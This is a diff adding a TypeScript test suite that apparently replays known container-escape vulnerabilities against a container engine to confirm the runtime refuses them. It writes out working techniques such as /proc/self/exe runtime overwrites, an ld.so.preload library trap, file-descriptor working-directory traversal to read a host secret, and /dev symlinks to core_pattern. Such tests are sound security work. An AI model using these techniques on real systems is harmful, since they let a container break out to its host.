@@ -1,0 +1,281 @@
+/** Known ways out of a container, repeated by their numbers. */
+import {
+  chownSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { join } from 'node:path';
+import type { EngineClient } from '../peers/engine-client.ts';
+import { Box, type Entry, probeInside, trapPath, withBox } from './box.ts';
+import { parseLine } from './finding.ts';
+import { importImage, removeImage } from './images.ts';
+import { refusal, type Scenario } from './scenario.ts';
+
+const sleeper = { Cmd: ['sleep', '1000'] };
+/** Bounded, as every loop here: a race that is lost this often is not won in a test. */
+const execs = 12;
+/** Nobody's: what belongs to it afterwards was given away by the engine. */
+const strangeId = 54321;
+
+export const incidents: Scenario[] = [
+  {
+    name: "the runtime's program can be overwritten (CVE-2019-5736)",
+    run: (client) =>
+      withBox(client, { Cmd: [probeInside, 'attack-exe'] }, async (box) => {
+        await box.start();
+        await box.ready();
+        // As in the original: what is executed is the runtime's own program, by way of a link.
+        for (let round = 0; round < execs; round++)
+          await refusal(box.exec(['/proc/self/exe', 'whoami']));
+        const found = /^overwritable (.*)$/m.exec(await box.output());
+        return found?.[1];
+      }),
+  },
+  {
+    name: 'an entry point that is the runtime itself (CVE-2019-5736)',
+    run: (client) =>
+      withBox(
+        client,
+        { Cmd: ['/script'] },
+        async (box) => {
+          await refusal(box.start().then(() => box.wait()));
+          const output = await refusal(
+            box.output().then(async (text) => Promise.reject(new Error(text))),
+          );
+          // Its own complaint about its arguments would show that the runtime ran in the container.
+          return /runc|shim|containerd/i.test(output ?? '') ? output : undefined;
+        },
+        [{ name: 'script', mode: 0o755, content: '#!/proc/self/exe\n' }],
+      ),
+  },
+  {
+    name: 'a copy loads a library of the container (CVE-2019-14271)',
+    run: async (client) => {
+      const library = readFileSync(trapPath);
+      const places = ['lib', 'usr/lib', 'usr/lib/x86_64-linux-gnu', 'usr/lib64'].flatMap((place) =>
+        ['libnss_files.so.2', 'libnss_compat.so.2', 'libnss_dns.so.2', 'libc.so.6'].map(
+          (name): Entry => ({ name: `${place}/${name}`, mode: 0o755, content: library }),
+        ),
+      );
+      const entries: Entry[] = [
+        ...places.filter(({ name }) => !name.startsWith('lib/')),
+        { name: 'trap.so', mode: 0o755, content: library },
+        { name: 'etc/ld.so.preload', content: '/trap.so\n' },
+      ];
+      return withBox(
+        client,
+        sleeper,
+        async (box) => {
+          await box.start();
+          for (let round = 0; round < 3; round++) {
+            await box.put('/tmp', [{ name: 'copied', content: 'x' }]);
+            await box.get('/tmp/copied');
+            await refusal(box.exec(['id'], { User: 'user' }));
+          }
+          const missing = await refusal(box.get('/trapped'));
+          return missing === undefined ? 'the library was loaded in the container' : undefined;
+        },
+        entries,
+      );
+    },
+  },
+  {
+    name: '/proc of the image is a link (CVE-2019-19921)',
+    run: (client) => kernelFilesOf(client, 'proc'),
+  },
+  {
+    name: '/sys of the image is a link (CVE-2019-19921)',
+    run: (client) => kernelFilesOf(client, 'sys'),
+  },
+  {
+    name: "the machine's /dev/null is given to the container's user",
+    run: (client) =>
+      withBox(
+        client,
+        { Cmd: ['sleep', '1000'], User: `${strangeId}:${strangeId}` },
+        async (box) => {
+          await box.start();
+          await box.exec(['true']);
+          const { uid, gid } = statSync('/dev/null');
+          if (uid !== strangeId && gid !== strangeId) return undefined;
+          chownSync('/dev/null', 0, 0);
+          return `it belonged to ${uid}:${gid}`;
+        },
+      ),
+  },
+  {
+    name: 'abstract sockets on the host network (CVE-2020-15257)',
+    run: (client) =>
+      withBox(
+        client,
+        { Cmd: [probeInside, 'sockets'], HostConfig: { NetworkMode: 'host' } },
+        async (box) => openIn(await box.run(), /^abstract sockets/),
+      ),
+  },
+  {
+    name: 'the working directory is a descriptor of the runtime (CVE-2024-21626)',
+    run: async (client, outside) => {
+      const read = ['cat', `../../../../../../../../../../..${outside.path}/secret`];
+      for (let fd = 3; fd < 16; fd++) {
+        const WorkingDir = `/proc/self/fd/${fd}`;
+        const box = await Box.create(client, { Cmd: read, WorkingDir }).catch(() => undefined);
+        try {
+          if ((await refusal(box?.start() ?? Promise.reject(new Error('refused')))) !== undefined)
+            continue;
+          await box?.wait();
+          const got = outside.reached((await box?.output()) ?? '');
+          if (got !== undefined) return `${WorkingDir}: ${got}`;
+        } finally {
+          await box?.remove();
+        }
+      }
+      return undefined;
+    },
+  },
+  {
+    name: "an exec's working directory is a descriptor of the runtime (CVE-2024-21626)",
+    run: (client, outside) =>
+      withBox(client, sleeper, async (box) => {
+        await box.start();
+        const read = ['cat', `../../../../../../../../../../..${outside.path}/secret`];
+        for (let fd = 3; fd < 16; fd++) {
+          let output = '';
+          await refusal(
+            box.exec(read, { WorkingDir: `/proc/self/fd/${fd}` }).then((text) => {
+              output = text;
+            }),
+          );
+          const got = outside.reached(output);
+          if (got !== undefined) return `descriptor ${fd}: ${got}`;
+        }
+        return undefined;
+      }),
+  },
+  {
+    name: 'a mask that is a link to a sysctl (CVE-2025-31133)',
+    run: (client) => ownDev(client, 'null', ['files'], {}),
+  },
+  {
+    name: 'a mask that is an ordinary file (CVE-2025-31133)',
+    run: (client) => ownDev(client, undefined, ['files'], {}),
+  },
+  {
+    name: 'the console is a link to a sysctl (CVE-2025-52565)',
+    run: (client) => ownDev(client, 'console', ['files'], { Tty: true }),
+  },
+  ...['/proc', '/proc/sys', '/proc/self/attr', '/proc/sys/net/ipv4/../../kernel', '/link/sys'].map(
+    (destination): Scenario => ({
+      name: `a mount over ${destination}, where the runtime writes (CVE-2025-52881)`,
+      run: async (client) => {
+        const HostConfig = {
+          Tmpfs: { [destination]: 'rw' },
+          Sysctls: { 'net.ipv4.ip_unprivileged_port_start': '79' },
+        };
+        const settings = { Cmd: ['cat', '/proc/self/mountinfo'], HostConfig };
+        return withImage(client, [{ name: 'link', type: 'symlink', linkname: 'proc' }], (Image) =>
+          mountsBelowProc(client, { ...settings, Image }),
+        );
+      },
+    }),
+  ),
+];
+
+/** An image whose directory of the kernel's is a link to a place that a volume or the image fills. */
+async function kernelFilesOf(client: EngineClient, name: string): Promise<string | undefined> {
+  const entries: Entry[] = [
+    { name: 'elsewhere/', type: 'directory' },
+    { name, type: 'symlink', linkname: '/elsewhere' },
+  ];
+  return withImage(client, entries, async (Image) => {
+    let output = '';
+    const refused = await refusal(
+      withBox(client, { Image, Cmd: [probeInside, 'files'] }, async (box) => {
+        output = await box.run();
+      }),
+    );
+    return refused === undefined ? openIn(output, controls) : undefined;
+  });
+}
+
+/** Which of what is hidden or read-only by default is open all the same. */
+const controls =
+  /^(write \/proc\/(sysrq-trigger|sys\/)|read \/proc\/(kcore|keys|timer_list)|list \/sys\/firmware|sweep of \/(proc\/)?sys )/;
+
+function openIn(output: string, which: RegExp): string | undefined {
+  const open = output
+    .split('\n')
+    .map((line) => line.trim())
+    .filter((line) => which.test(line) && line.includes('\t'))
+    .map((line) => parseLine('', '', line))
+    .find(({ outcome }) => outcome === 'open');
+  return open && `${open.probe} ${open.detail}`.trim();
+}
+
+/** A `/dev` that the attacker filled, in which `link` leads to the pattern of core files. */
+async function ownDev(
+  client: EngineClient,
+  link: string | undefined,
+  topics: string[],
+  settings: { Tty?: boolean },
+): Promise<string | undefined> {
+  const directory = mkdtempSync('/tmp/corten-attack-dev-');
+  try {
+    if (link === undefined) writeFileSync(join(directory, 'null'), '');
+    else symlinkSync('/proc/sys/kernel/core_pattern', join(directory, link));
+    mkdirSync(join(directory, 'pts'));
+    mkdirSync(join(directory, 'shm'));
+    const body = {
+      ...settings,
+      Cmd: [probeInside, ...topics],
+      HostConfig: { Binds: [`${directory}:/dev`] },
+    };
+    let output = '';
+    const refused = await refusal(
+      withBox(client, body, async (box) => {
+        await box.start();
+        await box.wait();
+        output = settings.Tty === true ? await box.screen() : await box.output();
+      }),
+    );
+    return refused === undefined ? openIn(output, controls) : undefined;
+  } finally {
+    rmSync(directory, { recursive: true, force: true });
+  }
+}
+
+async function mountsBelowProc(
+  client: EngineClient,
+  settings: Parameters<typeof Box.create>[1],
+): Promise<string | undefined> {
+  let output = '';
+  const refused = await refusal(
+    withBox(client, settings, async (box) => {
+      output = await box.run();
+    }),
+  );
+  if (refused !== undefined) return undefined;
+  const strange = output
+    .split('\n')
+    .map((line) => ({ point: line.split(' ')[4] ?? '', tail: line.split(' - ')[1] ?? '' }))
+    // A read-write tmpfs there is ours; the masks are read-only ones.
+    .find(({ point, tail }) => point.startsWith('/proc') && /^tmpfs \S+ rw/.test(tail));
+  return strange && `a tmpfs lies on ${strange.point}`;
+}
+
+async function withImage<T>(
+  client: EngineClient,
+  entries: Entry[],
+  work: (image: string) => Promise<T>,
+): Promise<T> {
+  const image = await importImage(client, entries);
+  try {
+    return await work(image);
+  } finally {
+    await removeImage(client, image);
+  }
+}
